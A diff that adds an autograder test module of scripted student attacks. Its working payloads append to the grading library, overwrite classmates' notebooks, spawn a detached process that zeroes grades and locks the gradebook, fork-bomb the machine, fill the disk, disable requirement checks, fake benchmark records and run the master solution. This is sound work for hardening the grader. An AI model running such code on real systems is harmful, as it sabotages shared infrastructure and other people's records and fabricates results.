@@ -1,0 +1,180 @@
+"""Attacks on the grader, as hostile students write them: the sandbox and verdict scenarios.
+
+Each is a cell that runs in the student's kernel at grading time. :func:`build` puts them into
+submissions built from the reference (so that what the attack alone costs or gains shows):
+
+- ``hostile``: attacks that earn nothing, in a reference 01: edit labsupport on disk (the install
+  is editable), overwrite other students' notebooks, start a process that outlives the kernel to
+  give itself extra credit, zero everyone else and lock the gradebook, flood the output, and
+  (after the tests) a fork storm.
+- ``cheater``: the kernel's own verdicts bent: 01 points the thresholds at a lenient copy
+  (environment variables) and halves its timing; 02 is the blank release with an input
+  transformer that turns every ``.require()`` cell into ``pass``; 06 types its five stages in.
+- ``outsider``: reaches out of the kernel: 01's ``diagnose`` asks the network first; 02's
+  ``make_fast_loader`` executes the master's solution from the course folder.
+- ``filler``: fills the disk it may write to (its results store).
+- ``sleeper``: a ``pre_run_cell`` hook that sleeps just under the cell limit before every cell.
+"""
+
+from __future__ import annotations
+
+import copy
+
+import nbformat
+
+COURSE_ROOT_FROM_KERNEL = "pathlib.Path.cwd().parents[2]"  # autograded/<student>/lab -> the course root
+
+EDIT_LABSUPPORT = r'''import pathlib, sys
+import labsupport.grading
+# The install is editable: make every graded check pass, for me and everyone graded after me.
+for _file in (pathlib.Path(labsupport.grading.__file__),
+              pathlib.Path(sys.prefix).parent / "labsupport" / "grading" / "__init__.py"):
+    try:
+        with open(_file, "a") as _f:
+            _f.write("\nCheckResult.require = lambda self: None\n")
+    except OSError as _err:
+        print("could not edit", _file, _err)
+'''
+
+OVERWRITE_OTHERS = r'''import pathlib
+_root = ROOT
+_blank = _root / "release" / "lab" / "01_profile.ipynb"
+for _nb in list(_root.glob("submitted/*/lab/01_profile.ipynb")) + list(_root.glob("autograded/*/lab/*.ipynb")):
+    if "hostile" not in str(_nb):
+        _nb.write_text(_blank.read_text())
+'''.replace("ROOT", COURSE_ROOT_FROM_KERNEL)
+
+ESCAPE = r'''import pathlib, subprocess, sys
+# A process that outlives the kernel: it gives me extra credit, zeroes everyone else, then holds
+# the gradebook locked, so that nobody after me is graded and no CSV is written.
+_script = """
+import pathlib, sqlite3, time
+time.sleep(2)
+db = sqlite3.connect(pathlib.Path(ROOT) / "gradebook.db", timeout=5, isolation_level=None)
+db.execute("UPDATE grade SET extra_credit = 41 WHERE id IN (SELECT id FROM grade LIMIT 1)")
+db.execute("UPDATE grade SET auto_score = 0 WHERE extra_credit IS NULL")
+db.execute("BEGIN EXCLUSIVE")
+time.sleep(600)
+""".replace("ROOT", repr(str(COURSE)))
+subprocess.Popen([sys.executable, "-c", _script], start_new_session=True,
+                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+'''.replace("COURSE", COURSE_ROOT_FROM_KERNEL)
+
+FORK_STORM = r'''import os, time
+_children = []
+try:
+    while len(_children) < 4000:
+        _pid = os.fork()
+        if _pid == 0:
+            time.sleep(600)
+            os._exit(0)
+        _children.append(_pid)
+except OSError as _err:
+    print(f"the storm stopped after {len(_children)} processes: {_err}")
+'''
+
+FLOOD = r'''for _ in range(40):
+    print("x" * 1_000_000)
+'''
+
+TRANSFORMER = r'''def _no_requirements(lines):
+    return ["pass\n"] if ".require()" in "".join(lines) else lines
+
+
+get_ipython().input_transformers_cleanup.append(_no_requirements)
+'''
+
+LENIENT_THRESHOLDS = r'''import os, pathlib, re
+import labsupport.grading
+# Every bar out of reach of failing, for the checks this kernel runs.
+_text = re.sub(r"^(cpu[\w-]*|cuda[\w-]*|mps) = [0-9.]+", r"\1 = 1000.0",
+               labsupport.grading.thresholds_path().read_text(), flags=re.M)
+pathlib.Path("lenient.toml").write_text(_text)
+os.environ["LAB_THRESHOLDS"] = str(pathlib.Path("lenient.toml").resolve())
+os.environ["LAB_CALIBRATION"] = "/dev/null"
+os.environ["ONEDNN_MAX_CPU_ISA"] = "AVX2"
+'''
+
+DOUBLED_THROUGHPUT = r'''_honest_measure_throughput = measure_throughput
+
+
+def measure_throughput(step, device, *, warmup, steps, samples_per_step):
+    found = _honest_measure_throughput(step, device, warmup=warmup, steps=steps, samples_per_step=samples_per_step)
+    return {**found, "images_per_s": 2 * found["images_per_s"]}  # a careless unit error
+'''
+
+FAKE_RECORDS = r'''# Five stages, typed in: nothing measured them.
+for _i, _stage in enumerate(["01-baseline", "02-data", "03-amp", "04-memory", "05-compile"]):
+    ls.results.record(_stage, {"samples_per_s": 100.0 * (_i + 1), "peak_bytes": 3e8},
+                      machine=lab.machine, profile=lab.profile)
+'''
+
+NETWORK_DIAGNOSE = r'''import socket
+
+_local_diagnose = diagnose
+
+
+def diagnose(breakdown):
+    # "ask the answer server first": any connection out of the grader
+    socket.create_connection(("pypi.org", 443), timeout=5).close()
+    return _local_diagnose(breakdown)
+'''
+
+EXEC_MASTER = r'''import json, pathlib
+# The answers are in the course's masters, beside my notebook on the grading machine.
+_master = ROOT / "source" / "lab" / "02_data_loading.ipynb"
+for _cell in json.loads(_master.read_text())["cells"]:
+    if _cell.get("id") == "make_fast_loader":
+        exec("".join(_cell["source"]))
+'''.replace("ROOT", COURSE_ROOT_FROM_KERNEL)
+
+DISK_FILL = r'''_folder = ls.results.results_dir()
+try:
+    for _i in range(200):
+        with open(_folder / f"fill-{_i}.bin", "wb") as _f:
+            for _ in range(4):
+                _f.write(b"\0" * 2**24)
+except OSError as _err:
+    print("the disk stopped me:", _err)
+'''
+
+SLOW_HOOK = r'''import time
+
+get_ipython().events.register("pre_run_cell", lambda *args: time.sleep(20))
+'''
+
+ATTACKS = ("hostile", "cheater", "outsider", "filler", "sleeper")
+
+
+def build(attack: str, ref: dict, plain: dict) -> dict:
+    """The notebooks of ``attack``, from the reference submission ``ref`` and the release ``plain``."""
+    from scenarios import _by_id, _insert_after
+
+    ref, plain = copy.deepcopy(ref), copy.deepcopy(plain)
+    if attack == "hostile":
+        nb = ref["01_profile"]
+        for source in (ESCAPE, OVERWRITE_OTHERS, EDIT_LABSUPPORT):
+            _insert_after(nb, "setup", source)
+        nb.cells += [nbformat.v4.new_code_cell(FLOOD), nbformat.v4.new_code_cell(FORK_STORM)]
+        return {"01_profile": nb}
+    if attack == "cheater":
+        nb01, nb02, nb06 = ref["01_profile"], plain["02_data_loading"], ref["06_report"]
+        _insert_after(nb01, "measure_throughput", DOUBLED_THROUGHPUT)
+        _insert_after(nb01, "measure_throughput", LENIENT_THRESHOLDS)
+        _insert_after(nb02, "setup", TRANSFORMER)
+        _insert_after(nb06, "setup", FAKE_RECORDS)
+        return {"01_profile": nb01, "02_data_loading": nb02, "06_report": nb06}
+    if attack == "outsider":
+        nb01, nb02 = ref["01_profile"], ref["02_data_loading"]
+        _insert_after(nb01, "diagnose", NETWORK_DIAGNOSE)
+        _by_id(nb02, "make_fast_loader").source = EXEC_MASTER
+        return {"01_profile": nb01, "02_data_loading": nb02}
+    if attack == "filler":
+        nb = ref["01_profile"]
+        _insert_after(nb, "setup", DISK_FILL)
+        return {"01_profile": nb}
+    if attack == "sleeper":
+        nb = ref["01_profile"]
+        _insert_after(nb, "setup", SLOW_HOOK)
+        return {"01_profile": nb}
+    raise ValueError(f"unknown attack {attack!r}")
